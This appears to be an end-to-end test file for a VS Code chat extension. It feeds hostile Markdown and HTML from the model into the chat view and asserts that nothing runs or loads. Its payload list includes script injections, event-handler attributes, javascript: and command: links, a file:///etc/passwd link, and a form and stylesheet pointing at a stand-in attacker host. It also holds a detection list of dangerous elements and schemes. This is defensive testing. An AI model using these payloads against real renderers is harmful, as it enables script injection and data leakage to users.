import assert from 'node:assert/strict';
import { journey, nightly, say, until, type Code } from './harness.ts';

const files = { 'fee.py': 'def fee(minutes):\n    return minutes * 250\n' };

/** Markdown and HTML that would do something if it were not inert. */
const attacks = [
  '<script>window.parent.postMessage({attacked: 1}, "*"); document.title = "attacked"</script>',
  '<img src=x onerror="document.title = \'attacked\'">',
  '<svg onload="document.title = \'attacked\'"><animate onbegin="document.title = \'attacked\'" attributeName="x"/></svg>',
  '<iframe srcdoc="<script>top.document.title = 1</script>"></iframe>',
  '<style>* { display: none !important }</style><link rel="stylesheet" href="https://attacker.invalid/a.css">',
  '<form action="https://attacker.invalid/"><input name="key" autofocus><button>Send</button></form>',
  '<a href="command:workbench.action.quit" onclick="document.title = \'attacked\'">quit</a>',
  '<div id="root"></div><base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0; url=https://attacker.invalid/">',
  '[one](command:workbench.action.newWindow) [two](javascript:document.title=1) [three](JaVaScRiPt:alert(1)) [four](data:text/html,<script>alert(1)</script>)',
  '[five](vscode://file/etc/passwd) [six](file:///etc/passwd) [seven](vbscript:x) ![eight](https://attacker.invalid/pixel.png) ![nine](javascript:x)',
  '[ref]: command:workbench.action.quit\n\n[ten][ref] <command:workbench.action.quit> <javascript:alert(1)>',
  '$$\\href{javascript:alert(1)}{x}$$ {{constructor.constructor("alert(1)")()}} ${7*7}',
];

/** Elements that text of the model must never become, and what they would do. */
async function dangers(code: Code): Promise<string[]> {
  const frame = await code.frame();
  return frame.evaluate(() => {
    const log = document.querySelector('[role=log]')!;
    const found: string[] = [];
    for (const element of log.querySelectorAll('*')) {
      const name = element.localName;
      if (['script', 'iframe', 'object', 'embed', 'form', 'style', 'link', 'base', 'meta', 'animate'].includes(name)) {
        found.push(`<${name}>`);
      }
      for (const { name: attribute, value } of element.attributes) {
        const address = value.trim().toLowerCase();
        const leads = ['href', 'xlink:href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'style'].includes(attribute);
        if (attribute.startsWith('on') || (leads && /(command|javascript|data:text|vbscript|vscode|url\():?/.test(address)) || (attribute === 'src' && /^https?:/.test(address))) {
          found.push(`${name} ${attribute}=${value.slice(0, 80)}`);
        }
      }
    }
    return found;
  });
}

journey('scripts and links in an answer are text', { files }, async (code) => {
  const requests: string[] = [];
  code.page.on('request', (request) => {
    if (request.url().includes('attacker.invalid')) {
      requests.push(request.url());
    }
  });
  await code.model.add(say(...attacks.flatMap((text) => [`${text}\n\n`]), 'The end of it.'));
  await code.ask(attacks[0]!);
  await code.waitForText('The end of it.');
  assert.deepEqual(await dangers(code), []);
  assert.deepEqual(requests, [], 'nothing is loaded from elsewhere');
  const frame = await code.frame();
  assert.notEqual(await frame.title(), 'attacked');
  assert.ok(await code.prompt.isVisible(), 'the page is as it was');
  await code.screenshot('hostile');

  // Each link that is left is clicked: none may do anything but ask VS Code to open it.
  const tabs = await code.tabs();
  const links = code.log.locator('a');
  for (let i = 0; i < (await links.count()); i++) {
    assert.doesNotMatch((await links.nth(i).getAttribute('href')) ?? '', /^(?!https?:|#)\w+:/i);
  }
  assert.deepEqual(await code.tabs(), tabs);
});

nightly('huge, unfinished and reordered text stays readable', { files }, async (code) => {
  const line = Array.from({ length: 40_000 }, (_, i) => i.toString(36)).join('x'); // nothing that repeats, or the turn ends
  const block = `\`\`\`js\n${Array.from({ length: 400_000 }, (_, i) => `const a${i} = ${i}; // é\n`).join('')}`; // 10 MB that never end
  const bidi = 'if (admin) { /* \u202e } \u2066 hidden */ grant() }';
  const numbers = Array.from({ length: 300 }, (_, i) => i);
  const nested = numbers.map((i) => `${'>'.repeat(i % 90)} deep ${i}`).join('\n\n') + numbers.map((i) => `[${i}*${i}_${i}`).join('') + numbers.map((i) => '`'.repeat(i % 40) + i).join('');
  await code.model.add(
    say(`A long line:\n\n${line}\n\n`, `${nested}\n\n`, `\`${bidi}\`\n\n`, 'The first is over.'),
    { events: [...pieces(block, 64 * 1024), { text: '\n' }] },
    say('The view still answers.'),
  );
  await code.ask('One');
  await code.waitForText('The first is over.');
  assert.ok(!(await code.log.innerText()).includes('\u202e'), 'characters that reorder text are spelled out');
  await code.ask('Two');
  await until('all of the code is there', async () => (await code.frame()).evaluate(() => document.querySelector('[role=log]')!.textContent.includes('const a399999 = 399999')));
  await until('the turn is over', async () => (await code.chatFrame.getByRole('button', { name: 'Stop' }).count()) === 0);
  const width = await (await code.frame()).evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.equal(width, 0, 'a long line does not widen the page');
  await code.screenshot('hostile-huge');
  await code.palette('Emendo: New Session'); // that one is too long for the model now
  await until('the new session is shown', async () => !(await code.log.innerText()).includes('The first is over.'));
  await code.ask('Three');
  await code.waitForText('The view still answers.');
});

/** A text in pieces of a size, as events. */
function pieces(text: string, size: number): { text: string }[] {
  const all = [];
  for (let i = 0; i < text.length; i += size) {
    all.push({ text: text.slice(i, i + size) });
  }
  return all;
}
